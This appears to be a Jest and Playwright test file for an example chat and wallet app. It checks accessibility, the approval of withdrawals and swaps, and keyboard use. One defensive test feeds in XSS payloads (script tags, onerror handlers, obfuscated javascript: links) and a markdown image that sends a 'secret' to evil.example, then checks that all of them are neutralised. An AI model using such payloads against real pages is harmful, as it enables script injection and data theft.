import type { Browser } from 'playwright-core';
import { type Approval, holdings, type Listed, usdc } from '@app/testing/journeys';
import { type Deployment, startDeployment } from '@app/testing/deployment';
import { until } from '@app/testing/until';
import { browserTimeoutMs, openChromium } from './chromium';
import { type ChatVisit, viewports, visitChat } from './chat-visit';
import { startExample, type Example } from './example';
import { seenWithinMs } from './visit';

jest.setTimeout(600_000);

describe('examples/chat, in a browser', () => {
  let deployment: Deployment;
  let example: Example;
  let browser: Browser;

  beforeAll(async () => {
    browser = await openChromium();
    deployment = await startDeployment({ mode: 'in-process' });
    example = await startExample(deployment, 'chat');
  }, browserTimeoutMs);

  afterAll(async () => {
    await browser?.close();
    await example?.stop();
    await deployment?.stop();
  });

  /** Expects no violations in both sizes, and no content wider than the window. */
  async function expectSound({ page, violations }: ChatVisit, state: string): Promise<void> {
    for (const [size, viewport] of Object.entries(viewports)) {
      await page.setViewportSize(viewport);
      expect({ state, size, violations: await violations() }).toEqual({ state, size, violations: [] });
      const overflow = await page.evaluate<number>('document.documentElement.scrollWidth - innerWidth');
      expect({ state, size, overflow }).toEqual({ state, size, overflow: 0 });
    }
    await page.setViewportSize(viewports.desktop);
  }

  it.each(['light', 'dark'] as const)(
    'has nothing that axe objects to, on any page and in any state (%s)',
    async (scheme) => {
      const visit = await visitChat(browser, example, `Ada of the ${scheme}`, scheme);
      const { page, question } = visit;
      const go = (name: string) => page.getByRole('navigation').getByRole('link', { name }).click();
      await expectSound(visit, 'new chat');
      await visit.say('repeat after me: # Title\n\n| a | b |\n| - | - |\n| 1 | 2 |');
      await page.locator('.message[data-status="completed"]').waitFor();
      await expectSound(visit, 'an answer');

      await visit.say('withdraw 1.5 USDC');
      await question.waitFor();
      await expectSound(visit, 'a question');
      await question.getByRole('button', { name: 'Deny…' }).click();
      await question.getByText('The request itself').click();
      await expectSound(visit, 'a denial with the request open');
      await question.getByRole('button', { name: 'Approve' }).click();
      await page.getByText('Settled: the money has moved.').waitFor();
      await expectSound(visit, 'a settlement');

      await visit.say('when NEAR drops below $2 swap 10 USDC to NEAR');
      await question.getByRole('button', { name: 'Approve' }).click();
      await until(
        'the end',
        async () => ((await page.locator('.message[data-status="completed"]').count()) === 3 ? true : null),
        seenWithinMs,
      );
      for (const [name, shown] of [
        ['Approvals', '.approval'],
        ['Automations', '.automation'],
        ['Wallet', '.wallet'],
        ['Chats', '.conversations li'],
      ] as const) {
        await go(name);
        await page.locator(shown).first().waitFor();
        await expectSound(visit, name);
      }
      await page.getByRole('button', { name: 'Sign out' }).click();
      await page.getByLabel('Your name').waitFor();
      await expectSound(visit, 'signed out');
      expect(visit.faults).toEqual([]);
      await visit.close();
    },
  );

  it('approves what an automation may do by itself, pauses it and lets it go on', async () => {
    const visit = await visitChat(browser, example, 'Grace');
    const { page, question } = visit;
    const user = await example.userNamed('Grace');
    await visit.say('when NEAR drops below $2 swap 10 USDC to NEAR');
    await question.getByRole('button', { name: 'Approve' }).click();
    await page.locator('.message[data-status="completed"]').waitFor();
    await page.getByRole('link', { name: 'Approvals' }).click();
    const [contract] = (await user.get<Listed<Approval>>('/approvals')).body.data;
    expect(await question.locator('.terms').locator('dd').allTextContents()).toEqual(
      (contract?.['terms'] as { text: string }[]).map(({ text }) => text),
    );
    await question.getByRole('button', { name: 'Approve' }).click();
    await page.getByText('Nothing waits for you.').waitFor();
    expect((await user.get(`/approvals/${contract?.id}`)).body).toMatchObject({ status: 'approved' });

    await page.getByRole('link', { name: 'Automations' }).click();
    await page.getByRole('button', { name: /^Pause/ }).click();
    await page.getByRole('button', { name: /^Resume/ }).click();
    await page.getByRole('button', { name: /^Pause/ }).waitFor();
    expect((await user.get<Listed>('/automations')).body.data).toEqual([expect.objectContaining({ state: 'enabled' })]);
    expect(visit.faults).toEqual([]);
    await visit.close();
  });

  it('runs and loads nothing that an answer smuggles in', async () => {
    const visit = await visitChat(browser, example, 'Hedy');
    const { page } = visit;
    const attempts = [
      '<img src=x onerror="window.hurt = 1"><script>window.hurt = 1</script>',
      '<iframe src="https://evil.example"></iframe><svg onload="window.hurt = 1">',
      '![leak](https://evil.example/leak.png?what=secret)',
      '[click](javascript:window.hurt=1) [again](data:text/html,<script>window.hurt=1</script>) <javascript:window.hurt=1>',
      '[tab](java&#x09;script:window.hurt=1) [case](JaVaScRiPt:window.hurt=1) [local](/api/session)',
      '[good](https://good.example/page)',
    ];
    await visit.say(`repeat after me: ${attempts.join(' ')}`);
    await page.locator('.message[data-status="completed"]').waitFor();
    expect(await page.evaluate('window.hurt')).toBeUndefined();
    const answer = page.locator('.message[data-role="assistant"] .markdown');
    expect(await answer.locator('img, script, iframe, svg, object, embed, style, form').count()).toBe(0);
    expect(await answer.locator('a').evaluateAll((links) => links.map((link) => link.getAttribute('href')))).toEqual([
      'https://good.example/page',
    ]);
    expect(await answer.locator('a').getAttribute('rel')).toContain('noopener');
    expect(await answer.textContent()).toContain('<script>window.hurt = 1</script>');
    expect([...visit.origins]).toEqual([example.origin]);
    expect(visit.faults).toEqual([]);
    await visit.close();
  });

  it('is used by keyboard alone: a message, a denial with its reason, another page', async () => {
    const visit = await visitChat(browser, example, 'Joan');
    const { page, question } = visit;
    const user = await example.userNamed('Joan');
    await page.keyboard.type('withdraw 2 USDC');
    await page.keyboard.press('Enter');
    await question.waitFor();
    expect(await page.locator('#announcer').textContent()).toMatch(/^Your approval is needed\. Withdraw 2 USDC/);
    await page.getByLabel('Message').focus();
    await tabTo(visit, 'Deny…', 'Shift+Tab');
    await page.keyboard.press('Enter');
    await page.keyboard.press('Tab');
    await page.keyboard.type('Not today');
    await page.keyboard.press('Tab');
    await page.keyboard.press('Enter');
    await page.locator('.approval[data-state="output-denied"]').waitFor();
    await until('the end', async () =>
      (await page.locator('.message[data-status="completed"]').count()) === 1 ? true : null,
    );
    expect((await user.get<Listed>('/approvals?status=denied')).body.data[0]).toMatchObject({
      denialReason: 'Not today',
    });
    expect((await holdings(user))[usdc]).toBe('250000000');
    await tabTo(visit, 'Wallet', 'Shift+Tab');
    await page.keyboard.press('Enter');
    await page.getByRole('row', { name: /USDC/ }).getByText('250', { exact: true }).waitFor();
    expect(visit.faults).toEqual([]);
    await visit.close();
  });

  /** Presses a key until the element with this text has the focus. Throws after 40 presses. */
  async function tabTo({ page }: ChatVisit, text: string, key: string): Promise<void> {
    for (let presses = 0; presses < 40; presses += 1) {
      if ((await page.evaluate('document.activeElement?.textContent')) === text) return;
      await page.keyboard.press(key);
    }
    throw new Error(`the focus never gets to ${text}`);
  }
});
